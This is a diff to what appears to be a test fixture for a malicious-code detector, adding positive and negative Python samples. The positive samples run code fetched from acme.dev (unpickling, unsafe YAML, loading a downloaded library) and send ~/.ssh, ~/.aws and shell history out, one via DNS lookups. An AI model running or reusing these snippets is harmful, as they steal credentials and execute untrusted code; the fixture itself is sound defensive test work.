@@ -49,6 +49,20 @@ POSITIVE: Mapping[str, _Samples] = {
         "import urllib.request, os\n"
         'urllib.request.urlretrieve("https://acme.dev/t", "tool.sh")\nos.system("tool.sh")',
     ),
+    "code/loads-fetched-code": _script(
+        "import pickle\nfrom urllib.request import urlopen\n"
+        'rules = pickle.loads(urlopen("https://acme.dev/r").read())',
+        "import yaml, requests\n"
+        'yaml.load(requests.get("https://acme.dev/r").text, Loader=yaml.UnsafeLoader)',
+        "import ctypes, urllib.request\n"
+        'urllib.request.urlretrieve("https://acme.dev/l", "/tmp/l.so")\nctypes.CDLL("/tmp/l.so")',
+        "import sys, urllib.request\n"
+        'urllib.request.urlretrieve("https://acme.dev/p", "/tmp/p.zip")\n'
+        'sys.path.insert(0, "/tmp/p.zip")',
+        'import requests, subprocess, sys\nwith open("s.py", "w") as file:\n'
+        '    file.write(requests.get("https://acme.dev/s").text)\n'
+        'subprocess.run([sys.executable, "s.py"])',
+    ),
     "code/sends-environment": _script(
         'import os, requests\nrequests.post("https://a", json={"all": dict(os.environ)})',
         "import json, os\nfrom urllib.request import Request, urlopen\n"
@@ -64,6 +78,18 @@ POSITIVE: Mapping[str, _Samples] = {
         "import os, subprocess\n"
         'path = os.path.expanduser("~/.aws/credentials")\n'
         'subprocess.run(["curl", "-T", path, "https://a"])',
+        "import http.client, io, os, zipfile\nheld = io.BytesIO()\n"
+        'with zipfile.ZipFile(held, "w") as packed:\n'
+        '    for root, _, names in os.walk(os.path.expanduser("~/.ssh")):\n'
+        "        for name in names:\n            packed.write(os.path.join(root, name))\n"
+        'http.client.HTTPSConnection("acme.dev").request("POST", "/", held.getvalue())',
+        "import tarfile, os, requests\n"
+        'with tarfile.open("/tmp/a", "w") as packed:\n'
+        '    packed.add(os.path.expanduser("~/.aws"))\n'
+        'requests.post("https://acme.dev", data=open("/tmp/a", "rb"))',
+        "import socket\nfrom pathlib import Path\n"
+        'text = (Path.home() / ".zsh_history").read_text()\n'
+        'socket.getaddrinfo(text[:50] + ".a.acme.dev", 80)',
     ),
     "code/encoded-address": _script(
         "import base64, requests\n"
@@ -117,6 +143,16 @@ NEGATIVE: Mapping[str, _Samples] = {
         "import requests, subprocess\n"
         'open("data.json", "wb").write(requests.get("https://acme.dev").content)\n'
         'subprocess.run(["git", "status"])',
+    ),
+    "code/loads-fetched-code": _script(
+        'import pickle\nmodel = pickle.load(open("model.pkl", "rb"))',
+        'import yaml, requests\nyaml.safe_load(requests.get("https://acme.dev/r").text)',
+        "import yaml, requests\n"
+        'yaml.load(requests.get("https://acme.dev/r").text, Loader=yaml.SafeLoader)',
+        'import sys, requests\nsys.path.insert(0, "src")\nrequests.get("https://acme.dev")',
+        "import requests, subprocess, sys\n"
+        'open("a.json", "w").write(requests.get("https://acme.dev/s").text)\n'
+        'subprocess.run([sys.executable, "check.py"])',
     ),
     "code/sends-environment": _script(
         "import os, requests, subprocess\n"
